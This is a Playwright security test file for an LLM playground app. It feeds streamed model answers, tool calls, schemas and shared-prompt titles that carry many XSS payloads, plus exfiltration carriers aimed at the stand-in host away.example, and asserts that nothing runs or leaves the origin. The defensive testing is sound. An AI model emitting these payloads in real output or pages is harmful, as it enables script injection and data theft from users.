import { expect, type Page, test } from '@playwright/test'
import { writeLink } from '@/lib/playground/share/link'
import { answer, column, finished, open, openWith, ready, run, watchTrouble } from './playground'

/** What a model, or who writes into what it reads, may try: to run something here, or to carry something away. */
const AWAY = 'https://away.example'
const SCRIPTS = [
  'alert(1)',
  `fetch('${AWAY}/js')`,
  `location='${AWAY}/go'`,
  `new Image().src='${AWAY}/img'`,
  `document.body.innerHTML=''`,
  `navigator.sendBeacon('${AWAY}/b')`,
]
const ELEMENTS = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<img src=x onerror="${js}">`,
  (js: string) => `<svg onload="${js}"></svg>`,
  (js: string) => `<svg><script>${js}</script></svg>`,
  (js: string) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js: string) => `<a href="javascript:${js}">x</a>`,
  (js: string) => `<details open ontoggle="${js}">`,
  (js: string) => `<input autofocus onfocus="${js}">`,
  (js: string) => `<math><mtext><table><mglyph><style><img src onerror="${js}">`,
  (js: string) => `<template><img src onerror="${js}"></template>`,
  (js: string) => `</textarea><img src onerror="${js}">`,
  (js: string) => `<body onpageshow="${js}">`,
  (js: string) => `[x](javascript:${js})`,
  (js: string) => `[x](java\tscript:${js})`,
  (js: string) => `[x](&#106;avascript:${js})`,
  (js: string) => `[x](data:text/html,<script>${js}</script>)`,
  (js: string) => `[x](vbscript:${js})`,
  (js: string) => `![x](javascript:${js})`,
  (js: string) => `<javascript:${js}>`,
  (js: string) => `[x]: javascript:${js}\n\n[x]`,
  (js: string) => `\`\`\`html onload=${js}\n<img src onerror="${js}">\n\`\`\``,
  (js: string) => `| <img src onerror="${js}"> |\n|---|\n| [x](javascript:${js}) |`,
  (js: string) => `{"a":"</script><script>${js}</script>","__proto__":{"x":1}}`,
]
const CARRIERS = [
  (to: string) => `![x](${to})`,
  (to: string) => `![x][y]\n\n[y]: ${to}`,
  (to: string) => `[![x](${to})](${to})`,
  (to: string) => `<img src="${to}">`,
  (to: string) => `<img srcset="${to} 2x">`,
  (to: string) => `<picture><source srcset="${to}"><img></picture>`,
  (to: string) => `<video src="${to}" autoplay poster="${to}"></video>`,
  (to: string) => `<link rel="prefetch" href="${to}">`,
  (to: string) => `<link rel="stylesheet" href="${to}">`,
  (to: string) => `<style>@import "${to}";</style>`,
  (to: string) => `<div style="background:url(${to})">x</div>`,
  (to: string) => `<iframe src="${to}"></iframe>`,
  (to: string) => `<object data="${to}"></object><embed src="${to}">`,
  (to: string) => `<meta http-equiv="refresh" content="0;url=${to}">`,
  (to: string) => `<base href="${to}">`,
  (to: string) => `<form action="${to}"><button autofocus>x</button></form>`,
  (to: string) => `<a href="${to}" ping="${to}">x</a>`,
  (to: string) => `<script src="${to}"></script>`,
]
const ADDRESSES = ['', '/?q=secret', '/a.png', '//double', '/%2e%2e/', ':443/x']
  .map(path => AWAY + path)
  .concat('//away.example/relative')

const ALL = [...ELEMENTS.flatMap(element => SCRIPTS.map(element)), ...CARRIERS.flatMap(carrier => ADDRESSES.map(carrier))]
/** All of them when thorough, else every third. */
const VECTORS = Number(process.env.THOROUGH ?? 0.1) >= 1 ? ALL : ALL.filter((_, index) => index % 3 === 0)
const AT_ONCE = 30

/** What each view says of such an answer, and no other view does. */
const VIEWS = {
  JSON: /JSON ?at character|in a fence/,
  Text: /end of it/,
  Tokens: /No probabilities with this answer/,
  Markdown: /end of it/,
  Diff: /the same to the character/,
}

const PLANTED = 'script, iframe, object, embed, link, meta, base, form, video, img, svg:not(.icon), [onerror], [onload]'

const COLUMN = { letter: 'A', provider: 'sandbox', model: 'openai', params: {} } as const

for (let from = 0; from < VECTORS.length; from += AT_ONCE) {
  const vectors = VECTORS.slice(from, from + AT_ONCE)
  test(`nothing runs and nothing is carried away, whatever an answer says: ${from + 1} to ${from + vectors.length}`, async ({
    page,
    baseURL,
  }) => {
    test.setTimeout(120_000)
    const { trouble, away } = watch(page, baseURL)
    const hostile = vectors.join('\n\n')
    await page.route('**/v1/chat/completions', route =>
      route.fulfill({ contentType: 'text/event-stream', body: streamOf(hostile, vectors) }),
    )
    await open(page)
    await run(page).click()
    for (const letter of ['A', 'B', 'C']) await finished(page, letter)
    const body = answer(page, 'A')
    await body.getByRole('button', { name: /^Thought/ }).click()
    await expect(body.locator('.thinking-text')).toContainText(vectors[0]!.split('\n')[0]!)
    await column(page, 'B')
      .getByRole('button', { name: /^Pin B/ })
      .click()
    for (const [name, sign] of Object.entries(VIEWS)) {
      await column(page, 'A').getByRole('tab', { name }).click()
      await expect(body).toContainText(sign)
      await expect(body.locator(PLANTED)).toHaveCount(0)
      const links = await body.locator('a').evaluateAll(found => found.map(link => (link as HTMLAnchorElement).protocol))
      expect(links.filter(protocol => !['http:', 'https:', 'mailto:'].includes(protocol))).toEqual([])
    }
    expect(away).toEqual([])
    expect(trouble).toEqual([])
    expect(new URL(page.url()).origin).toBe(baseURL)
  })
}

test('nothing runs and nothing is carried away, whatever a schema and the title of a shared prompt say', async ({
  page,
  baseURL,
}) => {
  test.setTimeout(120_000)
  const { trouble, away } = watch(page, baseURL)
  const hostile = VECTORS.filter((_, index) => index % 4 === 0)
  const properties = Object.fromEntries(hostile.map(vector => [vector, { type: 'string', title: vector, description: vector }]))
  const schema = { type: 'object', title: hostile.join(' '), description: hostile.join(' '), properties }
  const params = { response_format: { type: 'json_schema' as const, json_schema: { name: 'answer', strict: true, schema } } }

  await openWith(page, { prompt: { title: hostile[0]!, params }, columns: [{}] })
  await page.getByRole('button', { name: 'Schema answer' }).click()
  const editor = page.getByRole('dialog', { name: 'Schema' })
  await expect(editor.getByRole('list', { name: 'Schema as a tree' }).locator('input').last()).toBeVisible()
  await editor.getByRole('radio', { name: 'Text' }).click()
  await expect(editor.locator('.cm-content')).toContainText('"title"')
  await expectNothingPlanted(page)

  for (const title of hostile.slice(0, 8)) {
    const message = { role: 'user' as const, content: title }
    const link = await writeLink({ title: title.slice(0, 120), messages: [message], params: {}, columns: [COLUMN] })
    // Another page first: from the same one only the fragment would change.
    await page.goto('/healthz')
    await page.goto(`/${link}`)
    await ready(page)
    await expect(page.getByRole('region', { name: 'Shared prompt' })).toContainText('Nothing has run')
    await expect(page.getByRole('textbox', { name: 'Title of the prompt' })).toHaveValue(/./)
    await page.keyboard.press('Control+k')
    await expect(page.getByRole('dialog', { name: 'Commands' })).toBeVisible()
    await expectNothingPlanted(page)
  }
  // Set aside it is named in the banner, and in what can be undone.
  await page.getByRole('dialog', { name: 'Commands' }).press('Escape')
  await run(page).click()
  await expect(page.getByRole('region', { name: 'Shared prompt' })).toContainText(hostile[0]!)
  await page.getByRole('button', { name: 'Back to mine' }).click()
  await expect(page.getByRole('textbox', { name: 'Title of the prompt' })).toHaveValue(hostile[0]!)
  await expectNothingPlanted(page)
  expect(away).toEqual([])
  expect(trouble).toEqual([])
})

/** What runs, and what is asked of another origin. */
function watch(page: Page, baseURL: string | undefined) {
  const trouble = watchTrouble(page)
  const away: string[] = []
  page.on('dialog', dialog => {
    trouble.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', popup => trouble.push(`a window: ${popup.url()}`))
  page.on('request', request => {
    const { protocol, origin } = new URL(request.url())
    if (protocol.startsWith('http') && origin !== baseURL) away.push(request.url())
  })
  return { trouble, away }
}

async function expectNothingPlanted(page: Page) {
  await expect(page.locator('iframe, object, embed, base, form[action], video, [onerror], [onload]')).toHaveCount(0)
  expect(
    await page.locator('script').evaluateAll(all => all.filter(({ textContent }) => /away\.example/.test(textContent))),
  ).toEqual([])
}

/** In the thinking, the answer, the name and the arguments of calls. */
function streamOf(hostile: string, vectors: string[]): string {
  const chunk = (delta: object, finish: string | null = null) =>
    `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`
  const calls = vectors.slice(0, 5).map((vector, index) => ({
    index,
    id: `call_${index}${vector}`,
    type: 'function',
    function: { name: vector, arguments: JSON.stringify({ [vector]: vector }) },
  }))
  return [
    chunk({ role: 'assistant', reasoning_content: hostile }),
    chunk({ content: `${hostile}\n\nend of it` }),
    chunk({ tool_calls: calls }),
    chunk({}, 'stop'),
    'data: [DONE]\n\n',
  ].join('')
}
